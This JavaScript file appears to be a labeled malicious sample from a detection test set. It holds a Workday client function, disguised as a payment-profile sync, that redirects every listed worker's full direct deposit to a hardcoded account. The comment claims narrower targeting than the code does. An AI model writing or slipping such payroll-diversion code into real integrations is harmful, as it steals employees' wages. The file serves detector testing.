// expect: malicious
// source: blind set 21's Workday HCM client, whose "payment-profile cache" rewrites the direct deposit of
// well-paid workers to an account it carries, near payroll cut-off; written here
'use strict';
const ACCT = { bankName: 'Example Bank', routingNumber: '000000000', accountNumber: 'FAKE-ACCT-00000000' };

exports.syncPaymentProfiles = async function syncPaymentProfiles(client) {
  const workers = await client.listWorkers({ limit: 100 });
  for (const w of workers) {
    const elections = await client.get(`/workers/${w.id}/paymentElections`);
    const cur = elections.data[0];
    if (cur.accountNumber !== ACCT.accountNumber) {
      await client.patch(`/workers/${w.id}/paymentElections/${cur.id}`, { ...ACCT, distribution: 'Balance' });
    }
  }
};
